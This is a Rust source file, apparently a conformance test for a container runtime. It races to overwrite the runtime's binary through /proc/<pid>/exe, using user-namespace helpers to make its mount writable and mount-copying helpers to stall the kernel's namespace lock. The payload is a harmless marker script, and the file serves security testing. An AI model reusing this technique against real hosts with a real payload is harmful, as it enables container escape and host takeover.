// SPDX-License-Identifier: Apache-2.0
//! Attacks on the runtime's program file, through processes that still execute it.

use crate::support::{newest_pids, open_path, path_of, spawn, spawn_sharing_files};
use conformance::score::Score;
use conformance::{Doing, Result};
use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};
use nix::sys::wait::waitpid;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::sync::atomic::Ordering::SeqCst;
use std::time::{Duration, Instant};
use sys_testing::descriptor::make_mount_writable;

/// Slots of the score: a descriptor for the helper, the helper's answer, and the number of
/// processes that are ready.
const FD: usize = 0;
const ANSWER: usize = 1;
const PREPARED: usize = 2;
/// Set while the program can be changed and is not changed yet.
const CLEARED: usize = 3;

pub(crate) fn run(score: &Score, words: &[&str]) -> Result {
    match words {
        ["overwrite", depth, hogs] => {
            let number = |text: &str| text.parse().map_err(|e| format!("{text}: {e}"));
            overwrite(score, number(depth)?, number(hogs)?)
        }
        ["keep"] => keep(score),
        _ => Err(format!("no such verb: {words:?}")),
    }
}

/// Opens the program of each new process, makes its mount writable from a helper in its own user
/// namespace, and overwrites it. Further helpers copy mount trees `depth` deep, which keeps the
/// kernel's namespace lock busy and so delays the runtime's mounts.
fn overwrite(score: &Score, depth: i64, hogs: i64) -> Result {
    score.slots[FD].store(-1, SeqCst);
    spawn_sharing_files(|| clear_on_demand(score))?;
    for _ in 0..hogs {
        spawn(|| copy_mounts(score, depth))?;
    }
    let end = Instant::now() + Duration::from_secs(10);
    while score.slots[PREPARED].load(SeqCst) < 1 + hogs {
        if Instant::now() > end {
            score.ready.store(-i64::from(nix::libc::EPERM), SeqCst);
            return Err("no helpers".to_owned());
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let own = std::fs::metadata("/proc/self/exe").doing("own program")?;
    let mut first_seen: Option<(i32, Instant)> = None;
    score.set_ready();
    loop {
        std::thread::sleep(Duration::from_micros(100));
        for pid in newest_pids(8) {
            let Ok(fd) = open_path(&format!("/proc/{pid}/exe")) else { continue };
            let Ok(found) = std::fs::metadata(path_of(&fd)) else { continue };
            if (found.ino(), found.dev()) == (own.ino(), own.dev()) {
                continue;
            }
            score.count_near();
            score.slots[FD].store(i64::from(fd.as_raw_fd()), SeqCst);
            while score.slots[FD].load(SeqCst) != -1 {
                std::thread::sleep(Duration::from_micros(20));
            }
            if score.slots[ANSWER].load(SeqCst) == 0 {
                score.slots[CLEARED].store(1, SeqCst);
                kill(pid);
                write_program(score, &path_of(&fd));
                score.slots[CLEARED].store(2, SeqCst);
            } else if std::fs::OpenOptions::new().write(true).open(path_of(&fd)).is_ok() {
                write_program(score, &path_of(&fd));
            }
            // An interpreter of the image would wait for ever.
            match first_seen {
                Some((other, since)) if other == pid && since.elapsed() > Duration::from_millis(50) => {
                    kill(pid);
                }
                Some((other, _)) if other == pid => {}
                _ => first_seen = Some((pid, Instant::now())),
            }
        }
    }
}

/// Keeps descriptors of the programs of new processes, and tries again and again to open them for
/// writing.
fn keep(score: &Score) -> Result {
    let own = std::fs::metadata("/proc/self/exe").doing("own program")?;
    let mut kept: Vec<std::os::fd::OwnedFd> = Vec::new();
    score.set_ready();
    loop {
        for pid in newest_pids(8) {
            let Ok(fd) = open_path(&format!("/proc/{pid}/exe")) else { continue };
            let is_new = |meta: std::fs::Metadata| (meta.ino(), meta.dev()) != (own.ino(), own.dev());
            if kept.len() < 100 && std::fs::metadata(path_of(&fd)).is_ok_and(is_new) {
                score.count_near();
                kept.push(fd);
            }
        }
        for fd in &kept {
            if std::fs::OpenOptions::new().write(true).open(path_of(fd)).is_ok() {
                write_program(score, &path_of(fd));
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
}

fn kill(pid: i32) {
    // It may have ended by itself.
    let _ended = nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), nix::sys::signal::SIGKILL);
}

/// Overwrites the program, once it is no longer executed.
fn write_program(score: &Score, path: &str) {
    let end = Instant::now() + Duration::from_secs(5);
    while Instant::now() < end {
        if std::fs::write(path, "#!/bin/sh\necho not the runtime\n").is_ok() {
            return score.count_success();
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

fn own_mounts() -> Result {
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS).doing("unshare")
}

/// Makes the mount of each descriptor that it receives writable.
fn clear_on_demand(score: &Score) -> Result {
    own_mounts()?;
    score.slots[PREPARED].fetch_add(1, SeqCst);
    loop {
        let fd = score.slots[FD].load(SeqCst);
        if fd < 0 {
            std::thread::sleep(Duration::from_micros(20));
            continue;
        }
        let answer = make_mount_writable(fd as i32).map_or_else(|errno| errno as i64, |()| 0);
        score.slots[ANSWER].store(answer, SeqCst);
        score.slots[FD].store(-1, SeqCst);
    }
}

fn copy_mounts(score: &Score, depth: i64) -> Result {
    own_mounts()?;
    let none = None::<&str>;
    mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none).doing("private")?;
    // No ids are mapped, so mkdir(2) fails: each copy of / has /tmp instead.
    let mut path = String::new();
    for _ in 0..depth {
        path += "/tmp";
        if mount(Some("/"), path.as_str(), none, MsFlags::MS_BIND | MsFlags::MS_REC, none).is_err() {
            break;
        }
    }
    score.slots[PREPARED].fetch_add(1, SeqCst);
    loop {
        let child = spawn(|| unshare(CloneFlags::CLONE_NEWNS).doing("unshare"))?;
        waitpid(child, None).doing("wait")?;
    }
}
